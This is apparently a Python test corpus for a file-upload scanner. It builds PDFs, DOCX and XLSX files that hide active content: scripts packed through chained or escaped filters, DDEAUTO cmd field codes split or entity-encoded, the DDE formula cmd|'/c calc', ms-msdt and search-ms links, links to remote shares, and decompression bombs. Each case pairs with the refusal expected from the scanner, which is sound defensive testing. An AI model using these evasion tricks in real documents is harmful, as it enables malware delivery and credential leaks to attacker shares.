"""Files that hide what they do from a search for words; each is refused for what it does.

They were written from how viewers read, not from how the portal looks.
"""

import base64
import zlib
from collections.abc import Callable
from io import BytesIO

from pikepdf import Encryption, ObjectStreamMode, Pdf

from tests.corpus import File
from tests.corpus.builders import (
    OFFICE_NS,
    PACKAGE_NS,
    docx,
    jpeg,
    links,
    locked,
    object_stream,
    pdf,
    png,
    relations,
    stream,
    xlsx,
)
from tests.corpus.hostile import (
    ATTACHED,
    BOMB,
    DAMAGED,
    ELSEWHERE,
    FIELD_SCRIPT,
    MB,
    MEDIA,
    OBJECTS,
    OLE,
    PE,
    PIXELS,
    PROGRAM,
    RUNNING,
    SCRIPT,
    SCRIPT_FOUND,
    SENDING,
    UNASKED,
)

LISTED = b"5 0 " + SCRIPT


def hidden(filters: bytes, packed: bytes, entries: bytes = b"", more: bytes = b"") -> bytes:
    """A PDF with a script in an object stream that is packed in some way."""
    return pdf(object_stream(b"", filters, entries, packed=packed) + more)


def hexadecimal(content: bytes) -> bytes:
    return content.hex().encode() + b">"


def run_lengths(content: bytes) -> bytes:
    pieces = [content[at : at + 128] for at in range(0, len(content), 128)]
    return b"".join(bytes([len(piece) - 1]) + piece for piece in pieces) + b"\x80"


def after_stream(ending: bytes) -> bytes:
    """A packed script whose keyword `stream` ends in an unusual way."""
    return pdf(object_stream(SCRIPT).replace(b">>\nstream\n", b">>\nstream" + ending))


def revised(first: bytes, second: bytes) -> bytes:
    """A PDF whose object 5 is given twice."""
    return pdf(b"5 0 obj\n" + first + b"\nendobj\n5 0 obj\n" + second + b"\nendobj\n")


def attached(content: bytes, name: bytes = b"(invoice.xml)") -> bytes:
    """A PDF with one attached file."""
    place = b"<< /Type /Filespec /F %s /UF %s /EF << /F 7 0 R >> >>" % (name, name)
    return pdf(
        b"6 0 obj\n" + place + b"\nendobj\n"
        + stream(7, b"/Filter /FlateDecode", zlib.compress(content)),
        b" /Names << /EmbeddedFiles << /Names [(a) 6 0 R] >> >>",
    )  # fmt: skip


def locked_script() -> bytes:
    """A script in a PDF that restricts editing, and opens without a password."""
    file = BytesIO()
    with Pdf.open(BytesIO(pdf(catalog=b" /OpenAction " + SCRIPT))) as plain:
        plain.save(
            file,
            encryption=Encryption(owner="owner", user=""),
            object_stream_mode=ObjectStreamMode.generate,
        )
    return file.getvalue()


def field(action: bytes, more: bytes = b"") -> bytes:
    """A form with one field that acts."""
    return pdf(
        b"5 0 obj\n<< /FT /Tx /T (a) /Subtype /Widget /AA << /K %s >> >>\nendobj\n" % action + more,
        b" /AcroForm << /Fields [5 0 R] >>",
    )


PDFS: list[tuple[str, str, Callable[[], bytes], str]] = [
    ("an address that opens with the document", "a.pdf",
     lambda: pdf(catalog=b"/OpenAction << /S /URI /URI (http://example.com) >>"), UNASKED),
    ("an address that opens after a page was turned to", "a.pdf",
     lambda: pdf(b"8 0 obj\n[ 9 0 R ]\nendobj\n9 0 obj\n<< /S /#55RI /URI (http://a.example.com)"
                 b" >>\nendobj\n",
                 catalog=b"/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next 8 0 R >>"), UNASKED),
    ("an address that opens when the document is printed", "a.pdf",
     lambda: pdf(b"8 0 obj\n<< /WP << /S /URI /URI (http://example.com) >> >>\nendobj\n",
                 catalog=b"/AA 8 0 R"), UNASKED),
    ("a script behind `stream` and a blank", "a.pdf", lambda: after_stream(b" \n"), SCRIPT_FOUND),
    ("a script behind `stream` and a return", "a.pdf", lambda: after_stream(b"\r"), SCRIPT_FOUND),
    ("a script behind `stream` and a tab", "a.pdf", lambda: after_stream(b"\t \r\n"), SCRIPT_FOUND),
    ("a script in hexadecimal by its short name", "a.pdf",
     lambda: hidden(b"/AHx", hexadecimal(LISTED)), SCRIPT_FOUND),
    ("a script deflated and in hexadecimal", "a.pdf",
     lambda: hidden(b"[/AHx/Fl]", hexadecimal(zlib.compress(LISTED))), SCRIPT_FOUND),
    ("a script in base 85 by its short name", "a.pdf",
     lambda: hidden(b"/A85", base64.a85encode(LISTED) + b"~>"), SCRIPT_FOUND),
    ("a script in run lengths", "a.pdf",
     lambda: hidden(b"/RL", run_lengths(LISTED)), SCRIPT_FOUND),
    ("a script whose filter is another object", "a.pdf",
     lambda: hidden(b"8 0 R", hexadecimal(LISTED), more=b"8 0 obj\n/ASCIIHexDecode\nendobj\n"),
     SCRIPT_FOUND),
    ("a script whose filters are other objects", "a.pdf",
     lambda: hidden(b"[8 0 R /Fl]", hexadecimal(zlib.compress(LISTED)),
                    more=b"8 0 obj\n/AHx\nendobj\n"), SCRIPT_FOUND),
    ("a script whose filter's name is escaped", "a.pdf",
     lambda: hidden(b"/A#48x", hexadecimal(LISTED)), SCRIPT_FOUND),
    ("a script deflated three times", "a.pdf",
     lambda: hidden(b"[/Fl/Fl/Fl]", zlib.compress(zlib.compress(zlib.compress(LISTED)))),
     SCRIPT_FOUND),
    ("a script packed in six ways", "a.pdf",
     lambda: hidden(b"[/AHx/AHx/AHx/AHx/AHx/AHx]", hexadecimal(LISTED)), DAMAGED),
    ("a script packed in a way that nobody knows", "a.pdf",
     lambda: hidden(b"/Secret", LISTED), DAMAGED),
    ("a script whose kind is another object", "a.pdf",
     lambda: pdf(b"5 0 obj\n<< /S 8 0 R /JS (x) >>\nendobj\n"
                 + object_stream(b"/Java#53cript", number=8)), SCRIPT_FOUND),
    ("a script in the second of two objects of one number", "a.pdf",
     lambda: revised(b"<< /A 1 >>", SCRIPT), SCRIPT_FOUND),
    ("a script in the first of two objects of one number", "a.pdf",
     lambda: revised(SCRIPT, b"<< /A 1 >>"), SCRIPT_FOUND),
    ("a packed script that only a viewer finds which mends the table", "a.pdf",
     lambda: pdf(object_stream(b"<< /A 1 >>") + b"\r"
                 + object_stream(b"", b"/AHx", packed=hexadecimal(LISTED))), SCRIPT_FOUND),
    ("a script behind a broken table", "a.pdf",
     lambda: pdf(b"5 0 obj\n" + SCRIPT + b"\nendobj\n").replace(b"0000000", b"9999999"),
     SCRIPT_FOUND),
    ("a script in a PDF that restricts editing", "a.pdf", locked_script, SCRIPT_FOUND),
    ("a field with a number format", "a.pdf",
     lambda: field(b'<< /S /JavaScript /JS (AFNumber_Keystroke\\(2,0,0,0,"",true\\)) >>'),
     FIELD_SCRIPT),
    ("a field whose format is another object", "a.pdf",
     lambda: field(b"8 0 R", b"8 0 obj\n" + SCRIPT + b"\nendobj\n"), FIELD_SCRIPT),
    ("a field with a format, and a script besides", "a.pdf",
     lambda: field(b"8 0 R", b"8 0 obj\n" + SCRIPT + b"\nendobj\n9 0 obj\n" + SCRIPT
                   + b"\nendobj\n"), SCRIPT_FOUND),
    ("a form that sends itself, in hexadecimal", "a.pdf",
     lambda: hidden(b"/AHx", hexadecimal(b"5 0 << /S /SubmitForm /F (x) >>")), SENDING),
    ("a program among two attachments", "a.pdf", lambda: attached(PE), ATTACHED),
    ("a web page attached as XML", "a.pdf",
     lambda: attached(b"<?xml version='1.0'?><html><script>x</script></html>"), ATTACHED),
    ("an attachment that grows by entities", "a.pdf",
     lambda: attached(b"<?xml version='1.0'?><!DOCTYPE a [<!ENTITY b 'c'>]><a/>"), ATTACHED),
    ("XML that is named a program", "a.pdf", lambda: attached(b"<a/>", b"(invoice.hta)"), ATTACHED),
    ("XML without a name", "a.pdf", lambda: attached(b"<a/>", b"()"), ATTACHED),
    ("an attachment that unpacks to 70 MB", "a.pdf",
     lambda: attached(b"<a>" + b" " * (70 * MB)), BOMB),
    ("a file of another computer", "a.pdf",
     lambda: pdf(b"5 0 obj\n<< /S /GoToR /F (\\\\\\\\203.0.113.5\\\\a.pdf) >>\nendobj\n"),
     ELSEWHERE),
    ("a file of another computer in UTF-16", "a.pdf",
     lambda: pdf(b"5 0 obj\n<< /S /GoToR /F <" + "//203.0.113.5/a".encode("utf-16").hex().encode()
                 + b"> >>\nendobj\n"), ELSEWHERE),
    ("a link to a share", "a.pdf",
     lambda: pdf(b"5 0 obj\n<< /S /URI /URI (file://203.0.113.5/a) >>\nendobj\n"), ELSEWHERE),
    ("a link to a share, with its strokes turned", "a.pdf",
     lambda: pdf(b"5 0 obj\n<< /S /URI /URI (file:///\\\\\\\\203.0.113.5/a) >>\nendobj\n"),
     ELSEWHERE),
    ("a link that is a script", "a.pdf",
     lambda: pdf(b"5 0 obj\n<< /S /URI /URI (java\\tScript:alert\\(1\\)) >>\nendobj\n"), RUNNING),
    ("a link that starts a troubleshooter", "a.pdf",
     lambda: pdf(b"5 0 obj\n<< /S /URI /URI (ms-msdt:/id PCWDiagnostic) >>\nendobj\n"), RUNNING),
    ("a scene in 3D without rich media", "a.pdf",
     lambda: pdf(b"5 0 obj\n<< /Subtype /3D /3DD 6 0 R >>\nendobj\n"), MEDIA),
    ("a jump into a scene in 3D", "a.pdf",
     lambda: pdf(b"5 0 obj\n<< /S /GoTo3DView >>\nendobj\n"), MEDIA),
    ("sound on a click", "a.pdf",
     lambda: pdf(b"5 0 obj\n<< /S /So#75nd /Sound 6 0 R >>\nendobj\n"), MEDIA),
    ("a film of the old kind", "a.pdf",
     lambda: pdf(b"5 0 obj\n<< /Subtype /Movie /Movie << >> >>\nendobj\n"), MEDIA),
    ("a picture whose bytes are elsewhere", "a.pdf",
     lambda: pdf(stream(5, b"/Subtype /Image /F (http://example.com/a)", b"")), ELSEWHERE),
    ("a large picture that says it has one bit", "a.pdf",
     lambda: pdf(stream(5, b"/Width 20000 /Height 20000 /BitsPerComponent 1 /Filter /DCTDecode",
                        b"")), PIXELS),
    ("a picture that is larger than the PDF says", "a.pdf",
     lambda: pdf(stream(5, b"/Subtype /Image /Width 1 /Height 1 /Filter /DCTDecode",
                        jpeg(65_000, 65_000))), PIXELS),
    ("a picture of one bit that is larger than any plan", "a.png",
     lambda: png(40_000, 40_000, depth=1), PIXELS),
    ("a program to launch in a restricted PDF", "a.pdf",
     lambda: locked("", extract=False).replace(b"/Type /Page ", b"/A<</S/Launch>>/Type/Page "),
     PROGRAM),
]  # fmt: skip


def related(kind: str, target: str, parts: dict[str, bytes | str] | None = None) -> bytes:
    """A document with one relation inside the package."""
    return docx({"word/_rels/document.xml.rels": relations(kind, target), **(parts or {})})


def paragraph(*runs: str) -> bytes:
    """A document with a field whose code is spread over runs."""
    codes = "".join(f"<w:r><w:instrText>{run}</w:instrText></w:r>" for run in runs)
    begin, end = (f"<w:r><w:fldChar w:fldCharType='{on}'/></w:r>" for on in ("begin", "end"))
    return docx({"word/header1.xml": f"<w:hdr xmlns:w='w'><w:p>{begin}{codes}{end}</w:p></w:hdr>"})


def formula(text: str) -> bytes:
    return xlsx({"xl/worksheets/sheet1.xml": f"<worksheet><c r='A1'><f>{text}</f></c></worksheet>"})


PACKAGES: list[tuple[str, str, Callable[[], bytes], str]] = [
    ("an OLE object outside its folder", "a.docx",
     lambda: related("oleObject", "media/image1.bin", {"word/media/image1.bin": OLE}), OBJECTS),
    ("an OLE object that is called a picture", "a.docx",
     lambda: docx({"word/media/image1.png": OLE}), OBJECTS),
    ("a program that is called a picture", "a.docx",
     lambda: docx({"word/media/image1.png": PE}), OBJECTS),
    ("a package outside its folder", "a.docx",
     lambda: related("package", "media/a.bin", {"word/media/a.bin": docx()}), OBJECTS),
    ("another document that is taken in", "a.docx",
     lambda: related("aFChunk", "chunk.mht", {"word/chunk.mht": "MIME-Version: 1.0"}), OBJECTS),
    ("a part that is text of another kind", "a.docx",
     lambda: related("aFChunk", "afchunk.dat", {"word/afchunk.dat": "{\\rtf1}"}), OBJECTS),
    ("a picture of another computer", "a.docx",
     lambda: docx({"word/_rels/document.xml.rels": links("image", "http://example.com/a.png")}),
     OBJECTS),
    ("a picture of a share", "a.docx",
     lambda: docx({"word/_rels/document.xml.rels": links("image", "\\\\203.0.113.5\\a.png")}),
     OBJECTS),
    ("a picture of a share, by its address", "a.xlsx",
     lambda: xlsx({"xl/drawings/_rels/drawing1.xml.rels": links("image", "file://203.0.113.5/a")}),
     OBJECTS),
    ("a picture of a share in old drawing", "a.docx",
     lambda: docx({"word/header1.xml": "<v:imagedata src='\\\\203.0.113.5\\a.png'/>"}), OBJECTS),
    ("a link of a document that is a script", "a.docx",
     lambda: docx({"word/_rels/document.xml.rels": links("hyperlink", "javascript:alert(1)")}),
     RUNNING),
    ("a link of a workbook that searches a share", "a.xlsx",
     lambda: xlsx({"xl/worksheets/_rels/sheet1.xml.rels":
                   links("hyperlink", "search%2Dms:query=a&amp;crumb=location:%5C%5C203.0.113.5")}),
     RUNNING),
    ("a relation of a kind that nobody knows", "a.docx",
     lambda: related("somethingNew", "a.xml"), OBJECTS),
    ("a relation whose kind ends like a harmless one", "a.docx",
     lambda: related("oleObject#hyperlink", "a.xml"), OBJECTS),
    ("a relation in UTF-16", "a.docx",
     lambda: docx({"word/_rels/document.xml.rels":
                   relations("oleObject", "media/a.bin").encode("utf-16")}), OBJECTS),
    ("relations in a file that is spelt otherwise", "a.docx",
     lambda: docx({"word/_RELS/document.xml.RELS": relations("aFChunk", "a.mht")}), OBJECTS),
    ("a template on a share", "a.docx",
     lambda: docx({"word/_rels/a.xml.rels": links("attachedTemplate", "\\\\203.0.113.5\\t")}),
     OBJECTS),
    ("a workbook on a share", "a.xlsx",
     lambda: xlsx({"xl/externalLinks/_rels/externalLink1.xml.rels":
                   links("externalLinkPath", "file:///\\\\203.0.113.5\\a.xlsx")}), OBJECTS),
    ("a data connection", "a.xlsx",
     lambda: xlsx({"xl/_rels/workbook.xml.rels": relations("connections", "connections.xml")}),
     OBJECTS),
    ("a command behind a field, split", "a.docx",
     lambda: paragraph("DD", "EAUTO c:\\cmd.exe"), OBJECTS),
    ("a command behind a field, letter by letter", "a.docx", lambda: paragraph(*" DDE cmd"),
     OBJECTS),
    ("a command behind a field, as entities", "a.docx",
     lambda: paragraph("&#68;&#x44;E cmd"), OBJECTS),
    ("a command behind a field, in numbers", "a.docx",
     lambda: paragraph("QUOTE 68 68 69 32 99 109 100"), OBJECTS),
    ("a picture behind a field", "a.docx",
     lambda: paragraph('INCLUDEPICTURE "http://example.com/a.png" \\d'), OBJECTS),
    ("text of a share behind a field", "a.docx",
     lambda: paragraph('INCLUDETEXT "\\\\\\\\203.0.113.5\\\\a.docx"'), OBJECTS),
    ("a command behind a field whose deletion can be undone", "a.docx",
     lambda: docx({"word/header1.xml":
                   "<h xmlns='w'><fldChar fldCharType='begin'/><delInstrText>DDEAUTO cmd"
                   "</delInstrText></h>"}), OBJECTS),
    ("a command behind a simple field, as entities", "a.docx",
     lambda: docx({"word/header1.xml": '<w:fldSimple xmlns:w="w" w:instr="D&#68;E cmd"/>'}),
     OBJECTS),
    ("a command behind a field, under another prefix", "a.docx",
     lambda: docx({"word/header1.xml":
                   "<h xmlns='w'><fldChar fldCharType='begin'/><instrText>D</instrText>"
                   "<instrText>DE cmd</instrText></h>"}), OBJECTS),
    ("a command in a cell", "a.xlsx", lambda: formula("cmd|'/c calc'!A0"), OBJECTS),
    ("a command in a cell, as entities", "a.xlsx",
     lambda: formula("cmd&#124;'/c calc'!A0"), OBJECTS),
    ("a cell that asks the web", "a.xlsx", lambda: formula('WEBSERVICE("http://example.com")'),
     OBJECTS),
    ("an object behind a link of a workbook", "a.xlsx",
     lambda: xlsx({"xl/externalLinks/externalLink1.xml": "<oleLink progId='Package'/>"}), OBJECTS),
    ("parts whose kind is an object", "a.docx",
     lambda: docx({"[Content_Types].xml": (
         f'<Types xmlns="{PACKAGE_NS}/content-types"><Default Extension="png"'
         f' ContentType="application/vnd.openxmlformats-officedocument.oleObject"/></Types>')}),
     OBJECTS),
    ("a relation that is named in another tongue", "a.docx",
     lambda: docx({"word/_rels/document.xml.rels": relations("oleObject", "a.bin").replace(
         OFFICE_NS, "http://purl.oclc.org/ooxml/officeDocument/relationships")}), OBJECTS),
]  # fmt: skip

EVASIVE = [File(*row) for row in (*PDFS, *PACKAGES)]
